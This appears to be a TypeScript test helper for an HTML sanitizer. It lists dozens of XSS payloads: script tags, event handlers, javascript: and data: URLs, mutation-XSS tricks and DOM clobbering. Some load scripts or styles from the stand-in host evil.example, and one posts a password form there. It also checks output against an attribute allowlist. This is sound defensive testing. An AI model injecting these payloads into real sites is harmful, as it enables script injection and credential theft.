import { safeHtml } from './safe-html.ts'

/** Texts that would do harm on a page if they were shown as they are. */
export const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif)',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="//evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x][y]\n\n[y]: data:text/html,<script>alert(1)</script>',
  '<javascript:alert(1)>',
  '<a href="#" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<p id="config" name="config" class="admin">x</p><a id="location" href="/x">x</a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video><audio src onloadstart=alert(1)>',
  '<body onload=alert(1)><table background="javascript:alert(1)"><tr><td>x',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '`` `<img src=x onerror=alert(1)>` ``\n\n    <script>alert(1)</script>',
]

/** The attributes that may be in the output, and what their values may be. */
const judges: Record<string, RegExp> = {
  ...Object.fromEntries(
    'lang dir title aria-label rel open start reversed value align colspan rowspan scope datetime'
      .split(' ')
      .map((name) => [name, /^/]),
  ),
  id: /^user-content-fn/,
  href: /^(https?:|mailto:|tel:|[^:]*$|[^:]*[/?#])/,
  cite: /^(https?:|[^:]*$|[^:]*[/?#])/,
}

/** The parts of an HTML text that are not ours: each tag must be one of ours, whole, with our attributes alone. */
export function findForeignParts(html: string): string[] {
  const tags = html.match(/<(?:[^>"]|"[^"]*")*>?/g) ?? []
  return tags.filter((tag) => {
    const [, name, attributes = ''] = /^<\/?([a-z][a-z0-9]*)((?: [\w-]+(?:="[^"]*")?)*)>$/.exec(tag) ?? []
    const pairs = [...attributes.matchAll(/ ([\w-]+)(?:="([^"]*)")?/g)]
    const isOurs = pairs.every(([, attribute = '', value = '']) => judges[attribute]?.test(value) === true)
    return name === undefined || safeHtml.tagNames?.includes(name) !== true || !isOurs
  })
}
